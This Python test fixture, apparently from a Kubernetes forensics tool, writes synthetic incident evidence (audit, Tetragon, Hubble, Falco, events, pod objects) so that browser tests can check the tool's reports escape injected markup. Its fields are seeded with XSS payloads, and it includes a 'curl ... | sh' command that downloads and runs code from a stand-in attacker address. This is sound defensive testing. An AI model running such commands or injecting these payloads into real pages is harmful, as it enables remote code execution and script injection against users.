"""A sample incident whose attacker-controlled text carries HTML/JS payloads (for XSS tests).

Usage (e.g. from the report or widgets browser tests)::

    from tests.hardening.hostile_case import PAYLOADS, make_hostile_evidence, make_hostile_case

    folder = make_hostile_evidence(tmp_path / "evidence")   # six files, one per format
    case = make_hostile_case(tmp_path / "case")             # the same, ingested into a new case

Every payload of :data:`PAYLOADS` appears, verbatim, in pod names, labels, process
arguments, URLs, DNS names, user agents, Falco outputs, event messages and object
annotations of one coherent incident (an exec into a pod, a shell, a download, a DNS
lookup, a Falco alert, events, the pod object) on 2026-03-02 around 12:00 UTC, so
that timelines, findings, the story and reports all carry them.  A page that renders
them must show them as text: no ``alert`` runs, no ``<img>``/``<script>`` element
appears.  :data:`MARKERS` are the substrings a test can look for in the page text.
"""

from __future__ import annotations

import json
from pathlib import Path

from kubeforensics.case import Case

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
#: Payloads, each also in attribute- and URL-breaking variants.
PAYLOADS = (SCRIPT, IMG, '"><svg onload=alert(1)>', "javascript:alert(1)", "'><iframe srcdoc=\"<script>alert(1)</script>\">")
MARKERS = (SCRIPT, IMG)

POD = f"web-{SCRIPT}"
NAMESPACE = "shop"
NODE = "worker-1"
LABEL = IMG
ARGS = f"-c curl -s http://198.51.100.7/{IMG} -A '{SCRIPT}' | sh"
URL = f"http://198.51.100.7/x?q={SCRIPT}&r={IMG}"
DNS = f"{IMG}.{SCRIPT}.exfil.example."
USER_AGENT = f"Mozilla/5.0 {SCRIPT} {IMG}"
CONTAINER = "c0ffee" * 10 + "c0ff"


def _t(s: int) -> str:
    return f"2026-03-02T12:00:{s:02d}.000000Z"


def _audit() -> list[dict]:
    return [{
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": f"a0000000-0000-4000-8000-00000000000{n}",
        "stage": "ResponseComplete", "verb": "create",
        "requestURI": f"/api/v1/namespaces/{NAMESPACE}/pods/{POD}/exec?command=sh&command=-c&command={URL}&stdin=true&tty=true",
        "user": {"username": f"dev-{IMG}", "groups": ["system:authenticated"]},
        "sourceIPs": ["203.0.113.9"], "userAgent": USER_AGENT,
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": NAMESPACE, "name": POD, "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": 101},
        "requestReceivedTimestamp": _t(1 + n), "stageTimestamp": _t(1 + n),
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": f"RBAC: {SCRIPT}"},
    } for n in range(2)]


def _process(exec_id: str, pid: int, binary: str, args: str, parent: str | None, t: int) -> dict:
    return {
        "exec_id": exec_id, "pid": pid, "uid": 0, "cwd": f"/tmp/{IMG}", "binary": binary, "arguments": args,
        "flags": "execve clone", "start_time": _t(t), "auid": 4294967295, "parent_exec_id": parent,
        "pod": {"namespace": NAMESPACE, "name": POD,
                "container": {"id": f"containerd://{CONTAINER}", "name": f"app-{SCRIPT}",
                              "image": {"id": "docker.io/shop/web@sha256:" + "ab" * 32, "name": f"docker.io/shop/{IMG}:1"},
                              "start_time": "2026-03-02T11:00:00Z", "pid": 1},
                "pod_labels": {"app": LABEL, "tier": SCRIPT}},
        "docker": CONTAINER[:31],
    }


def _tetragon() -> list[dict]:
    sh = _process("aG9zdGlsZS1zaA==", 4100, "/bin/sh", ARGS, "aG9zdGlsZS1ydW5j", 3)
    curl = _process("aG9zdGlsZS1jdXJs", 4101, "/usr/bin/curl", f"-s {URL} -A '{USER_AGENT}'", sh["exec_id"], 4)
    connect = {"process_kprobe": {
        "process": curl, "parent": sh, "function_name": "tcp_connect", "policy_name": f"net-{IMG}",
        "args": [{"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                               "saddr": "10.244.1.17", "daddr": "198.51.100.7", "sport": 40100, "dport": 80}}],
        "action": "KPROBE_ACTION_POST"}, "node_name": NODE, "time": _t(5)}
    return [{"process_exec": {"process": sh}, "node_name": NODE, "time": _t(3)},
            {"process_exec": {"process": curl, "parent": sh}, "node_name": NODE, "time": _t(4)}, connect]


def _hubble() -> list[dict]:
    src = {"ID": 1, "identity": 1234, "namespace": NAMESPACE, "pod_name": POD,
           "labels": [f"k8s:app={LABEL}", f"k8s:io.kubernetes.pod.namespace={NAMESPACE}"]}
    dns = {"flow": {"time": _t(4), "verdict": "FORWARDED", "Type": "L7", "node_name": NODE,
                    "IP": {"source": "10.244.1.17", "destination": "10.96.0.10", "ipVersion": "IPv4"},
                    "l4": {"UDP": {"source_port": 53001, "destination_port": 53}}, "source": src,
                    "destination": {"identity": 5, "namespace": "kube-system", "pod_name": "coredns-1",
                                    "labels": ["k8s:k8s-app=kube-dns"]},
                    "l7": {"type": "REQUEST", "dns": {"query": DNS, "qtypes": ["A"]}},
                    "event_type": {"type": 129}, "traffic_direction": "EGRESS", "is_reply": False,
                    "Summary": f"DNS Query {DNS} A"}, "node_name": NODE, "time": _t(4)}
    http = {"flow": {"time": _t(5), "verdict": "FORWARDED", "Type": "L7", "node_name": NODE,
                     "IP": {"source": "10.244.1.17", "destination": "198.51.100.7", "ipVersion": "IPv4"},
                     "l4": {"TCP": {"source_port": 40100, "destination_port": 80}}, "source": src,
                     "destination": {"identity": 2, "labels": ["reserved:world"]},
                     "l7": {"type": "REQUEST", "http": {"method": "GET", "url": URL, "protocol": "HTTP/1.1",
                                                        "headers": [{"key": "User-Agent", "value": USER_AGENT}]}},
                     "event_type": {"type": 129}, "traffic_direction": "EGRESS", "is_reply": False,
                     "Summary": f"HTTP/1.1 GET {URL}"}, "node_name": NODE, "time": _t(5)}
    return [dns, http]


def _falco() -> list[dict]:
    return [{
        "hostname": NODE, "priority": "Notice", "rule": "Terminal shell in container", "source": "syscall",
        "output": f"12:00:03.000000000: Notice A shell was spawned in a container (user=root pod={POD} cmdline=sh {ARGS})",
        "tags": ["container", "shell", "mitre_execution", "T1059"], "time": _t(3),
        "output_fields": {"container.id": CONTAINER[:12], "proc.cmdline": f"sh {ARGS}", "proc.pid": 4100,
                          "k8s.ns.name": NAMESPACE, "k8s.pod.name": POD, "user.name": "root",
                          "proc.pname": f"runc-{IMG}"},
    }]


def _events() -> list[dict]:
    return [{"kind": "Event", "apiVersion": "v1",
             "metadata": {"name": f"{POD}.1", "namespace": NAMESPACE, "uid": "ev-1", "creationTimestamp": _t(6)},
             "involvedObject": {"kind": "Pod", "namespace": NAMESPACE, "name": POD, "uid": "pod-uid-1"},
             "reason": f"Unhealthy{IMG}", "message": f"Liveness probe failed: {SCRIPT} {URL}",
             "source": {"component": "kubelet", "host": NODE}, "firstTimestamp": _t(6), "lastTimestamp": _t(6),
             "count": 1, "type": "Warning"}]


def _objects() -> dict:
    pod = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"name": POD, "namespace": NAMESPACE, "uid": "pod-uid-1", "creationTimestamp": "2026-03-02T11:00:00Z",
                        "labels": {"app": LABEL, "tier": SCRIPT}, "annotations": {"note": IMG}},
           "spec": {"nodeName": NODE, "serviceAccountName": f"sa-{SCRIPT}",
                    "containers": [{"name": f"app-{SCRIPT}", "image": f"docker.io/shop/{IMG}:1",
                                    "args": ["sh", "-c", ARGS]}]},
           "status": {"phase": "Running", "podIP": "10.244.1.17", "hostIP": "192.168.1.10",
                      "containerStatuses": [{"name": f"app-{SCRIPT}", "containerID": f"containerd://{CONTAINER}",
                                             "ready": True, "restartCount": 0, "image": f"docker.io/shop/{IMG}:1"}]}}
    return {"kind": "List", "apiVersion": "v1", "items": [pod]}


def make_hostile_evidence(folder: str | Path) -> Path:
    """Write the hostile incident into ``folder``: one file per format; returns the folder.

    Parameters
    ----------
    folder
        Where to write (created when missing).

    Returns
    -------
    Path
        The folder, ready for ``kubeforensics ingest FOLDER --case DIR``.
    """
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    for name, recs in (("audit.log", _audit()), ("tetragon.json", _tetragon()), ("hubble.json", _hubble()),
                       ("falco.json", _falco()), ("k8s-events.json", _events())):
        (out / name).write_text("".join(json.dumps(r) + "\n" for r in recs), encoding="utf-8")
    (out / "k8s-objects.json").write_text(json.dumps(_objects(), indent=2), encoding="utf-8")
    return out


def make_hostile_case(case_dir: str | Path, evidence_dir: str | Path | None = None) -> Case:
    """Write the hostile evidence (beside ``case_dir`` unless given) and ingest it into a new case."""
    case_dir = Path(case_dir)
    ev = make_hostile_evidence(evidence_dir or case_dir.parent / f"{case_dir.name}-evidence")
    case = Case.create(case_dir)
    case.ingest(ev)
    return case
